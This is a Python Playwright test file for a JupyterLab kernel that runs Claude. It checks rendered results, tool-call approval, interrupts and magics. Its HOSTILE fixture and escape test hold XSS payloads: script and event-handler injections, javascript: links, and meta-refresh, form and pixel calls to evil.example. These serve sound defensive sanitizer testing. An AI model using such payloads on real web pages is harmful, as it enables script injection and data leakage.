"""What a person sees in JupyterLab, in a real browser: results, links, progress, and nothing that does harm.

Whatever came out of a sandbox or an answer is foreign. Outputs of a cell that was just run are *trusted* by
JupyterLab, which shows their HTML as it is, so this is where a hostile answer would have its chance.
"""

import base64
import json
import re
import shutil
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from browser import Notebook
from notebook_runs import ROOT
from playwright.sync_api import expect


def check_nothing_escaped(notebook: Notebook) -> None:
    """The page is where it was, asked nobody else for anything, opened nothing, and ran no foreign script."""
    assert (notebook.refused, notebook.dialogs, notebook.windows, notebook.left_for) == ([], [], [], [])
    flags = notebook.page.evaluate("() => Object.keys(window).filter(name => name.startsWith('hostile'))")
    assert flags == []
    assert " ran" not in notebook.page.title()


def check_console_is_clean(notebook: Notebook) -> None:
    assert not [line for line in notebook.console if line.startswith(("error", "uncaught"))], notebook.console


def check_outputs_are_harmless(notebook: Notebook) -> None:
    """No element below any cell can run a script, send a form, or load from elsewhere."""
    area = notebook.page.locator(".jp-Notebook .jp-OutputArea-output")
    found = area.evaluate_all(
        """areas => areas.flatMap(area => [...area.querySelectorAll('*')]).flatMap(element => [
             ...(/^(script|iframe|object|embed|form|input|button|link|meta|base|style|svg)$/i.test(element.localName) ? [element.outerHTML] : []),
             ...[...element.attributes].filter(a => /^(on|srcdoc|formaction)/i.test(a.name)).map(a => a.name + '=' + a.value),
           ])"""
    )
    assert found == [], found
    for address in area.locator("a[href]").evaluate_all("links => links.map(link => link.href)"):
        assert urlsplit(address).scheme in ("http", "https", "mailto"), address
    for address in area.locator("[src]").evaluate_all("elements => elements.map(element => element.src)"):
        assert address.startswith((f"{notebook.lab.url}/", "data:image/png;", "blob:")), address


RESULTS = """
# Measure the tides.

> First the table, then the figure.

```python
# A month of tides
import os
import matplotlib
matplotlib.use("Agg")
import matplotlib.pyplot as plt
import numpy as np

folder = os.environ["OUTPUT_DIR"]
day = np.arange(1, 29)
metres = 2 + np.sin(day / 28 * 4 * np.pi)
with open(os.path.join(folder, "tides.csv"), "w") as table:
    table.write("day,metres\\n")
    table.writelines(f"{d},{m:.2f}\\n" for d, m in zip(day, metres))
figure, axis = plt.subplots(figsize=(6, 3))
axis.plot(day, metres)
figure.savefig(os.path.join(folder, "tides.png"), dpi=100)
print("highest", metres.max().round(2))
```

The tide turns twice a month. It costs $5 to look and $6 to stay; $a^2$ is mathematics.
"""


def check_results(notebook: Notebook) -> None:
    """What the cell of `RESULTS` shows, however the notebook was opened."""
    output = notebook.output(0)
    image = output.locator("img[src^='data:image/png']")
    expect(image).to_have_count(1)
    image.scroll_into_view_if_needed()
    notebook.page.wait_for_function("image => image.complete", arg=image.element_handle())
    assert image.evaluate("image => [image.naturalWidth, image.naturalHeight]") == [600, 300]

    rows = output.locator("table tr").all_inner_texts()
    assert rows[0].split() == ["day", "metres"] and rows[1].split() == ["1", "2.43"] and len(rows) == 11

    link = output.get_by_role("link", name="tides.csv").first
    saved = (notebook.lab.directory / "tides/claude_files/tides.csv").read_bytes()
    assert saved.startswith(b"day,metres\n1,2.43\n")
    assert notebook.lab.get(link.evaluate("link => link.href")) == saved

    text = notebook.text(0)
    assert "It costs $5 to look and $6 to stay" in text
    assert output.locator("mjx-container").count() == 1
    assert "highest" not in text, "the step should be folded"
    assert re.search(r"^offline · effort medium · 1 run$", text.splitlines()[-1])
    assert "…" not in text, "the line that says what is being done should be gone"


def test_results_can_be_seen_opened_and_found_again(lab, browser):
    name = lab.write("tides", "%python\nMeasure the tides.", script=RESULTS)
    with browser.open(lab, name) as notebook:
        notebook.run_all()
        check_results(notebook)

        step = notebook.output(0).locator("details", has_text="Python - A month of tides")
        step.locator("summary").first.click()
        expect(step.locator("pre").last).to_contain_text("highest 2.97")
        expect(step.locator("pre").first).to_contain_text("import numpy as np")
        assert step.locator("pre span[class]").count() > 20, "the code is not coloured"

        notebook.reload()
        check_results(notebook)
        notebook.output(0).get_by_role("link", name="tides.csv").first.click()
        expect(notebook.page.locator(".jp-CSVViewer")).to_be_visible()
        check_nothing_escaped(notebook)
        check_console_is_clean(notebook)

    with browser.open(lab, lab.from_a_colleague(name)) as notebook:
        check_results(notebook)
        check_nothing_escaped(notebook)


HOSTILE = r"""
# Be hostile.

````python
# Nothing to see here
import os

folder = os.environ["OUTPUT_DIR"]
script = "for (const w of [window, parent, top]) { try { w.hostileFile = 1; w.alert('hostile'); w.location = 'https://evil.example/' } catch {} }"
page = f"<!doctype html><title>Report</title><h1 id=seen>Quarterly report</h1><script>{script}</script>" \
       f"<img src=x onerror=\"{script}\"><iframe srcdoc=\"<script>{script}</script>\"></iframe>" \
       "<meta http-equiv=refresh content='0; url=https://evil.example/refresh'><form action=https://evil.example><input autofocus onfocus='top.hostileFocus=1'></form>"
drawing = f'<svg xmlns="http://www.w3.org/2000/svg" width="300" height="80" onload="{script}"><script>{script}</script>' \
          f'<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="{script}"/></foreignObject><circle cx="40" cy="40" r="30" fill="teal"/></svg>'
cell = "<img src=x onerror=window.hostileCell=1>"
names = {
    "report.html": page,
    "report.xhtml": page,
    "drawing.svg": drawing,
    "table.csv": f"a,b\n{cell},[x](javascript:window.hostileCell=1)\n",
    "notes.md": f"# Notes\n{cell}\n<script>{script}</script>\n",
    "data.json": '{"</code></pre><img src=x onerror=window.hostileJson=1>": 1}',
    "<img src=x onerror=window.hostileName=1>.txt": "a name is foreign, too",
}
for name, text in names.items():
    with open(os.path.join(folder, name), "w") as file:
        file.write(text)
print("</code></pre></details><script>window.hostileOutput=1</script>" + cell)
print("```\n</details>\n\n" + cell + "\n\n[x](javascript:window.hostileOutput=1)\n\x1b]8;;javascript:window.hostileOutput=1\x07link\x1b]8;;\x07")
````

Hello <img src="x" onerror="window.hostileText=1"> there.

<script>window.hostileText=1</script>

<iframe srcdoc="<script>top.hostileText=1</script>"></iframe>

<svg onload="window.hostileText=1"><a xlink:href="javascript:window.hostileText=1"><text>svg</text></a></svg>

<a href="javascript:window.hostileText=1">anchor</a> [link](javascript:window.hostileText=1)
[reference][bad] <javascript:window.hostileText=1> [data](data:text/html,<script>top.hostileText=1</script>)
![pixel](https://evil.example/pixel.png?secret=1) ![handler](x"onerror="window.hostileText=1)

<meta http-equiv="refresh" content="0; url=https://evil.example/refresh">
<form action="https://evil.example"><input name="password"><button>Log in</button></form>
<style>body { display: none }</style><base href="https://evil.example/">

$\href{javascript:window.hostileText=1}{x}$ and $\class{hostile}{x}$

</details><details open ontoggle="window.hostileText=1"><summary>x</summary></details>

[bad]: javascript:window.hostileText=1
"""


def play_corpus() -> str:
    """A script that answers with the corpus of `tests/data/hostile`: its prose, its files, its output."""
    read = lambda name: (ROOT / "tests/data/hostile" / name).read_bytes()
    files = {name: base64.b64encode(read(name)).decode() for name in ("page.html", "drawing.svg", "answer.md", "console.txt", "bomb.png")}
    text = json.dumps({"type": "text", "text": read("answer.md").decode()})
    return f"""
# Play the corpus.

```json block
{text}
```

```python
# The corpus
import base64
import os
import sys

for name, data in {files!r}.items():
    with open(os.path.join(os.environ["OUTPUT_DIR"], name), "wb") as file:
        file.write(base64.b64decode(data))
sys.stdout.buffer.write(base64.b64decode({files["console.txt"]!r}))
```
"""


def check_hostile(notebook: Notebook) -> None:
    expect(notebook.output(0)).to_contain_text("offline · ")
    expect(notebook.output(1)).to_contain_text("offline · ")
    expect(notebook.output(1)).to_contain_text("An answer that wants to act")
    drawing = notebook.output(0).locator("img").first
    drawing.scroll_into_view_if_needed()
    notebook.page.wait_for_function("image => image.complete", arg=drawing.element_handle())
    assert drawing.evaluate("image => image.naturalWidth") == 300, "the drawing should be shown as an image"
    check_outputs_are_harmless(notebook)
    check_nothing_escaped(notebook)


def test_hostile_answers_and_files_do_nothing(lab, browser):
    name = lab.write("hostile", "Be hostile.", "Play the corpus.", script=HOSTILE + play_corpus())
    with browser.open(lab, name) as notebook:
        notebook.run_all()
        notebook.page.locator(".jp-OutputArea *").evaluate_all(
            """elements => elements.forEach(element => {
                 if (element.localName === 'details') element.open = true;
                 for (const name of ['mouseover', 'pointerenter', 'focus', 'toggle', 'load', 'error'])
                   element.dispatchEvent(new Event(name, { bubbles: true }));
               })"""
        )
        check_hostile(notebook)
        check_console_is_clean(notebook)
        notebook.reload()
        check_hostile(notebook)

        # Opened as JupyterLab opens a file: seen, and still without effect. The browser says so in the console.
        notebook.output(0).get_by_role("link", name="report.html").first.click()
        page = notebook.page.frame_locator(".jp-HTMLViewer iframe")
        expect(page.locator("#seen")).to_have_text("Quarterly report")
        notebook.wait_for_console("Blocked script execution")
        check_nothing_escaped(notebook)

    with browser.open(lab, lab.from_a_colleague(name)) as notebook:
        check_hostile(notebook)


ERROR = "[data-mime-type='application/vnd.jupyter.stderr']"


def check_did_not_run(notebook: Notebook, index: int) -> None:
    expect(notebook.cell(index).locator(".jp-InputPrompt")).to_have_text("[ ]:")
    assert notebook.text(index) == ""


def test_an_interrupt_keeps_what_has_arrived(lab, browser):
    script = "# Count.\n\nOne, two, three.\n\n> Is there more?\n\n<!-- fault: stall -->\n\nNever said.\n\n# And then?\n\nFour.\n"
    name = lab.write("stalled", "Count.", "And then?", script=script)
    with browser.open(lab, name) as notebook:
        notebook.menu("Run", "Run All Cells")
        expect(notebook.output(0)).to_contain_text("One, two, three.")
        expect(notebook.output(0)).to_contain_text(re.compile(r"Thinking …"))
        expect(notebook.cell(0).locator(".jp-InputPrompt")).to_have_text("[*]:")
        notebook.interrupt()
        error = notebook.output(0).locator(ERROR)
        expect(error).to_contain_text("KeyboardInterrupt")
        expect(error).to_contain_text("`%continue` goes on from there")
        notebook.wait_idle()
        text = notebook.text(0)
        assert "One, two, three." in text and "Never said" not in text
        assert "Thinking …" not in text, "the line that says what is being done should be gone"
        check_did_not_run(notebook, 1)

        notebook.run_cell(1)
        expect(notebook.output(1)).to_contain_text("Four.")
        check_console_is_clean(notebook)


SESSION = """
# /^Two cities/

```json result
[{"city": "Kiel", "people": 246000, "sea": true}, {"city": "Ulm | Neu-Ulm", "people": 186000, "sea": false}]
```

# /rows has/

Two.
"""


def test_results_are_tables_and_notes_are_no_errors(lab, browser):
    name = lab.write(
        "session",
        '%%json cities\n```json\n{"type": "array", "maxItems": 5, "items": {"type": "object", "properties": {"city": {"type": "string"}, '
        '"people": {"type": "integer"}, "sea": {"type": "boolean"}}, "required": ["city", "people", "sea"]}}\n```\nTwo cities, please.',
        "%attach measured.csv\n\nHow many rows has it?",
        "@measured.csv and @nowhere.csv: how many rows has each?",
        "%%effort high",
        script=SESSION,
    )
    (lab.directory / "session/measured.csv").write_text("a,b\n1,2\n3,4\n")
    with browser.open(lab, name) as notebook:
        notebook.run_all()
        cells = notebook.output(0).locator("tr").evaluate_all("rows => rows.map(row => [...row.cells].map(cell => cell.innerText))")
        assert cells == [["city", "people", "sea"], ["Kiel", "246000", "true"], ["Ulm | Neu-Ulm", "186000", "false"]]
        note = notebook.output(0).locator("sub", has_text="sent as a description")
        expect(note).to_have_count(1)
        assert note.locator("code").first.inner_text() == "maxItems"
        expect(notebook.output(0).get_by_role("link")).to_have_text(["cities.json", "cities.csv"])

        assert re.match(r"Attached measured\.csv \(.*, 12 B, sha256 \w{12}\): in Claude's sandbox\.\s+Two\.", notebook.text(1))
        assert "Attached measured.csv" in notebook.text(2)
        expect(notebook.output(2).locator("sub").first).to_have_text(re.compile("@nowhere.csv stays as typed: there is no such file"))
        expect(notebook.output(3).locator("sub")).to_have_text(re.compile("%%effort holds for this cell only"))
        expect(notebook.page.locator(ERROR)).to_have_count(0)
        assert "`" not in "".join(map(notebook.text, range(4)))
        check_console_is_clean(notebook)


TOOLS = """
# /^Where is Kiel/

```call locate
{"city": "Kiel"}
```

It lies at {{tool_result}}.

# /^Wait/

```bash
# Take a while
sleep 2 && echo rested
```

It has rested.
"""
TOOL = '%%tool --ask\ndef locate(city: str) -> str:\n    """Look a city up."""\n    return f"{city}: 54 N, 10 E"'


def test_a_person_is_asked_before_a_tool_runs(lab, browser):
    ask = "Where is Kiel?"
    with browser.open(lab, lab.write("asked", TOOL, ask, ask, ask, "Wait.", script=TOOLS)) as notebook:
        notebook.run_cell(0)
        for index, answer in ((1, "y"), (2, "n")):
            notebook.start_cell(index)
            question = notebook.output(index).locator(".jp-Stdin")
            expect(question).to_contain_text(re.compile(r"locate.*Kiel"))
            question.locator("input").fill(answer)
            notebook.page.keyboard.press("Enter")
            expect(notebook.output(index)).to_contain_text("offline · ")
            notebook.wait_idle()
        assert "It lies at Kiel: 54 N, 10 E." in notebook.text(1)
        assert "54 N" not in notebook.text(2)
        assert "The person did not allow this call." in notebook.text(2)

        notebook.start_cell(3)
        expect(notebook.output(3).locator(".jp-Stdin input")).to_be_visible()
        notebook.interrupt()
        expect(notebook.output(3).locator(ERROR)).to_contain_text("KeyboardInterrupt")
        notebook.wait_idle()
        # JupyterLab leaves the question there: an answer that comes too late is one to nothing.
        notebook.output(3).locator(".jp-Stdin input").fill("y")
        notebook.page.keyboard.press("Enter")
        expect(notebook.page.locator(".jp-Stdin input")).to_have_count(0)
        assert "54 N" not in notebook.text(3)

        notebook.start_cell(4)
        # Seen at every frame: it is there for less than two seconds.
        notebook.page.wait_for_function(
            "() => [...document.querySelectorAll('.jp-OutputArea')].some(area => area.innerText.includes('Running a command …'))"
        )
        expect(notebook.output(4)).to_contain_text("offline · ")
        assert "…" not in notebook.text(4), "the line that says what is being done should be gone"
        check_console_is_clean(notebook)


def test_a_restarted_kernel_runs_all_again(lab, browser):
    with browser.open(lab, lab.write("restarted", "%effort low", "Wait.", script=TOOLS)) as notebook:
        notebook.run_all()
        first = notebook.text(1)
        notebook.menu("Kernel", "Restart Kernel and Run All Cells…")
        notebook.page.get_by_role("button", name="Confirm Kernel Restart").click()
        # What `%resume` would continue is said above the first answer, quietly.
        expect(notebook.page.locator("sub", has_text="%resume")).to_have_count(1)
        notebook.wait_done()
        expect(notebook.page.locator(ERROR)).to_have_count(0)
        # The answer is the recorded one, and says so: a restart alone costs nothing.
        assert notebook.text(1) == f"{first} · recorded · nothing sent"
        check_console_is_clean(notebook)


def test_magics_complete_and_explain_themselves(lab, browser):
    with browser.open(lab, lab.write("completed", "%effo", "%effort ")) as notebook:
        keyboard, listed = notebook.page.keyboard, notebook.page.locator(".jp-Completer-item")
        for index, (offered, taken, completed) in enumerate(
            ((["%effort"], 0, "%effort"), (["low", "medium", "high", "xhigh", "max", "default"], 3, "%effort xhigh"))
        ):
            notebook.cell(index).locator(".jp-InputArea-editor").click()
            keyboard.press("End")
            keyboard.press("Tab")
            expect(listed).to_contain_text(offered)
            for _ in range(taken):
                keyboard.press("ArrowDown")
            keyboard.press("Enter")
            expect(notebook.cell(index).locator(".cm-content")).to_have_text(completed)
        keyboard.press("Shift+Tab")
        expect(notebook.page.locator(".jp-Tooltip")).to_contain_text("how hard Claude works: low | medium | high | xhigh | max")
        keyboard.press("Escape")
        check_console_is_clean(notebook)


def test_a_mistyped_magic_says_what_was_meant(lab, browser):
    name = lab.write("mistyped", "%efort high\n\nHello", "%effort")
    with browser.open(lab, name) as notebook:
        notebook.menu("Run", "Run All Cells")
        error = notebook.output(0).locator(ERROR)
        expect(error).to_contain_text("MagicError")
        expect(error).to_contain_text("Did you mean `%effort`?")
        assert len(error.inner_text().strip().splitlines()) == 2, "what happened, and what to do next"
        notebook.wait_idle()
        check_did_not_run(notebook, 1)
        notebook.run_cell(1)
        expect(notebook.output(1)).to_contain_text("medium")
        check_nothing_escaped(notebook)
        check_console_is_clean(notebook)


def test_u1_the_first_cell_a_visitor_runs_is_answered(lab, browser):
    folder = lab.directory / "visited"
    folder.mkdir()
    for name in ("quickstart.ipynb", "quickstart.claude.md"):
        shutil.copy(ROOT / "notebooks" / name, folder)
    # Opened as it is: nobody picks a kernel.
    with browser.open(lab, "visited/quickstart.ipynb") as notebook:
        notebook.run_cell(0)
        expect(notebook.output(0)).to_contain_text("You write a prompt")
        expect(notebook.page.locator(ERROR)).to_have_count(0)
        expect(notebook.page.locator("#jp-main-statusbar")).to_contain_text("Claude (offline)")

    with browser.open(lab, lab.write("keyless", "Hello", kernel="claude")) as notebook:
        notebook.menu("Run", "Run All Cells")
        error = notebook.output(0).locator(ERROR)
        expect(error).to_have_text(re.compile(r"AuthenticationError: no credentials for the Claude API: without a key, pick Kernel → Change Kernel → Claude \(offline\)"))


def test_the_checks_see_what_does_escape(lab, browser):
    with browser.open(lab, lab.write("escapes", "Hello")) as notebook:
        for escape, noted in (
            ("() => fetch('https://evil.example/').catch(() => {})", lambda: notebook.refused.pop()),
            ("() => alert('hello')", lambda: notebook.dialogs.pop()),
            ("() => { hostile = 1 }", lambda: notebook.page.evaluate("() => { delete window.hostile }")),
        ):
            check_nothing_escaped(notebook)
            notebook.page.evaluate(escape)
            with pytest.raises(AssertionError):
                check_nothing_escaped(notebook)
            noted()
        with notebook.page.expect_popup():
            notebook.page.evaluate("() => { open('about:blank') }")
        assert notebook.windows == ["about:blank"]
        notebook.output(0).evaluate("area => area.innerHTML = '<div class=jp-OutputArea-output><a href=javascript:hostile=1 onclick=hostile=1>x</a></div>'")
        with pytest.raises(AssertionError):
            check_outputs_are_harmless(notebook)
        notebook.page.goto(f"{lab.url}/api")
        assert notebook.left_for == [f"{lab.url}/api"]


STEPS = """
# Mend it.

> It may fail at first.

```bash
# Read the missing file
cat missing.csv
```

> I make one.

```python
# Make the file
import os
rows = [(day, day * day) for day in range(1, 13)]
with open("squares.csv", "w") as table:
    table.write("day,square\\n")
    for day, square in rows:
        table.write(f"{day},{square}\\n")
total = sum(square for _, square in rows)
largest = max(square for _, square in rows)
print("rows", len(rows))
print("total", total)
print("largest", largest)
assert total == 650
assert largest == 144
```

```bash
# Look at it
head -3 squares.csv
```

The sum of the squares is **650**.

# Which is the largest?

The largest is 144.

# /.*/

Something else.
"""


def test_an_answer_begins_with_the_answer_and_says_when_it_no_longer_holds(lab, browser):
    name = lab.write("steps", "Mend it.", "Which is the largest?", "%undo", "%reset", "%undo", script=STEPS)
    with browser.open(lab, name) as notebook:
        notebook.run_cell(0)
        notebook.run_cell(1)
        # Steps in a row are one closed fold: what can be read is its title, the answer and the receipt.
        lines = [line for line in notebook.text(0).splitlines() if line.strip()]
        assert lines[-3:] == ["3 steps · 1 failed and recovered", "The sum of the squares is 650.", "offline · effort medium · 3 runs"]
        row = notebook.output(0).locator("details", has_text="3 steps").first
        row.locator("summary").first.click()
        expect(row.get_by_text("Bash - Read the missing file - exit 1")).to_be_visible()
        row.get_by_text("Bash - Read the missing file - exit 1").click()
        expect(row.get_by_text("No such file or directory").first).to_be_visible()
        row.get_by_text("Python - Make the file - ok").click()
        expect(row.get_by_text("largest 144")).to_be_visible()
        expect(row.get_by_text("import os")).not_to_be_visible()
        row.get_by_text("lines of code").click()
        expect(row.get_by_text("import os")).to_be_visible()
        assert row.locator("details").count() >= 4, "three steps, and the code of the long one"
        edge = row.locator("div[style]").first.evaluate("element => getComputedStyle(element).borderLeftWidth")
        assert edge == "3px"
        receipt = notebook.output(1).locator("sub").last
        assert receipt.evaluate("element => getComputedStyle(element).opacity") == "0.6"

        # The first cell runs again: the second says so in its own receipt, and no longer when it has run again.
        notebook.run_cell(0)
        expect(notebook.output(1)).to_contain_text("stale: In [3] above changed; run this cell again")
        notebook.screenshot(ROOT / "target/browser/steps.png")
        notebook.reload()
        expect(notebook.output(1)).to_contain_text("stale: In [3] above changed; run this cell again")
        notebook.run_cell(1)
        expect(notebook.output(1)).not_to_contain_text("stale")
        notebook.run_cell(2)
        expect(notebook.output(1)).to_contain_text("taken back by In [5]: Claude no longer sees this answer")
        notebook.run_cell(3)
        expect(notebook.output(3)).to_contain_text("%undo takes this back")
        notebook.run_cell(4)
        expect(notebook.output(4)).to_contain_text("The reset is taken back")
        check_nothing_escaped(notebook)
        check_console_is_clean(notebook)
